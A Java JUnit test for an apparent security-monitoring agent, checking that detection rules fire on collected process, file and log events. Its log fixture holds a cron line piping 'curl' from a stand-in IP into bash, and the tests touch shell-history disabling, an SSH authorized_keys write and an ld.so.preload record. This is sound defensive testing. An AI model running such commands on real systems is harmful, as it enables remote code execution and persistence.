package dev.tidewatch.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.tidewatch.agent.collect.Emitter;
import dev.tidewatch.agent.collect.EventSink;
import dev.tidewatch.agent.collect.file.FileCollector;
import dev.tidewatch.agent.collect.file.FileOptions;
import dev.tidewatch.agent.collect.file.WatchedGlob;
import dev.tidewatch.agent.collect.log.LogCollector;
import dev.tidewatch.agent.collect.log.LogOptions;
import dev.tidewatch.agent.collect.process.ProcessCollector;
import dev.tidewatch.agent.collect.process.ProcessOptions;
import dev.tidewatch.events.EventDocument;
import dev.tidewatch.events.MalformedEventException;
import dev.tidewatch.events.v1.TelemetryEvent;
import dev.tidewatch.ingest.v1.AgentEvent;
import dev.tidewatch.match.IndexedMatcher;
import dev.tidewatch.match.Matcher;
import dev.tidewatch.match.RuleMatch;
import dev.tidewatch.sigma.RuleDirectory;
import dev.tidewatch.sigma.SigmaCompiler;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/** Starter rules fire on what the agent collects on this machine. */
@EnabledOnOs(OS.LINUX)
class AgentRulesTest {
  private static Matcher matcher;
  @TempDir Path directory;

  @BeforeAll
  static void compile() throws IOException {
    Path rules = Installation.home().resolve("cep-patterns/rules");
    matcher =
        new IndexedMatcher(
            new SigmaCompiler().compile(RuleDirectory.read(List.of(rules))).matched());
  }

  /**
   * Events as the gateway makes them of what the agent sends; then the titles of rules that fire.
   */
  private static final class Rules implements EventSink {
    private final List<String> fired = new CopyOnWriteArrayList<>();

    @Override
    public void add(AgentEvent event) throws IOException {
      TelemetryEvent telemetry =
          TelemetryEvent.newBuilder()
              .setTenantId("t")
              .setEventId(event.getEventId())
              .setObservedTimeUs(event.getObservedTimeUs())
              .setSource(event.getSource())
              .setPayload(event.getPayload())
              .build();
      try {
        for (RuleMatch match : matcher.match(EventDocument.parse(telemetry))) {
          fired.add(match.rule().title());
        }
      } catch (MalformedEventException e) {
        throw new IOException(e);
      }
    }

    @Override
    public void flush() {}

    Emitter emitter() {
      return new Emitter(
          "test",
          this,
          new Emitter.Limits(0, 1 << 20, false),
          InstantSource.system(),
          System::nanoTime);
    }
  }

  private static Thread start(CollectorRun run) {
    Thread thread =
        new Thread(
            () -> {
              try {
                run.run();
              } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
              } catch (IOException e) {
                throw new AssertionError(e);
              }
            });
    thread.start();
    return thread;
  }

  private interface CollectorRun {
    void run() throws IOException, InterruptedException;
  }

  @Test
  void aCommandRunHereFiresAProcessRule() throws Exception {
    Rules rules = new Rules();
    ProcessCollector collector =
        new ProcessCollector(
            new ProcessOptions(
                true,
                Duration.ofMillis(50),
                true,
                8192,
                0,
                Path.of("/proc"),
                Path.of("/etc/passwd")));
    Thread thread = start(() -> collector.run(rules.emitter()));
    try {
      // Harmless: the shell only compares and sleeps.
      await()
          .atMost(Duration.ofSeconds(30))
          .until(
              () -> {
                new ProcessBuilder("/bin/sh", "-c", "sleep 0.3; : unset HISTFILE")
                    .start()
                    .waitFor();
                return rules.fired.contains("Shell history removed or switched off");
              });
    } finally {
      thread.interrupt();
      thread.join();
    }
  }

  @Test
  void aFileWrittenHereFiresAFileRule() throws Exception {
    Rules rules = new Rules();
    Path keys = Files.createDirectories(directory.toRealPath().resolve(".ssh"));
    FileCollector collector =
        new FileCollector(
            FileOptions.of(
                List.of(WatchedGlob.of(keys + "/*")), directory.resolve("state/baseline")));
    Thread thread = start(() -> collector.run(rules.emitter()));
    try {
      await()
          .atMost(Duration.ofSeconds(30))
          .pollInterval(Duration.ofMillis(500))
          .until(
              () -> {
                Path file = keys.resolve("authorized_keys");
                Files.deleteIfExists(file);
                new ProcessBuilder("/bin/sh", "-c", "echo '# test' > " + file).start().waitFor();
                return rules.fired.contains("SSH authorized keys written");
              });
    } finally {
      thread.interrupt();
      thread.join();
    }
  }

  @Test
  void linesOfLogsFireRulesOfTheirServices() throws Exception {
    Rules rules = new Rules();
    Path log = directory.resolve("auth.log");
    Files.writeString(
        log,
        """
        2026-11-21T12:00:00.000000+00:00 web-1 sshd[812]: Accepted password for root from 203.0.113.5 port 50122 ssh2
        Nov 21 12:00:00 web-1 sudo: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/sh
        Nov 21 12:00:00 web-1 CRON[9]: (root) CMD (curl -s http://203.0.113.5/x | bash)
        type=PATH msg=audit(1795166043.120:48211): item=1 name="/etc/ld.so.preload" inode=2 nametype=CREATE
        """);
    LogCollector collector =
        new LogCollector(
            "logs",
            LogOptions.of(List.of(log.toString()), directory.resolve("positions"))
                .withFromBeginning(true));
    Thread thread = start(() -> collector.run(rules.emitter()));
    try {
      await()
          .atMost(Duration.ofSeconds(60))
          .untilAsserted(
              () ->
                  assertThat(rules.fired)
                      .contains(
                          "root signed in over SSH with a password",
                          "Service account runs a command as root",
                          "Cron job that fetches code or opens a connection",
                          "Dynamic linker preload file created, in an audit record"));
    } finally {
      thread.interrupt();
      thread.join();
    }
  }
}
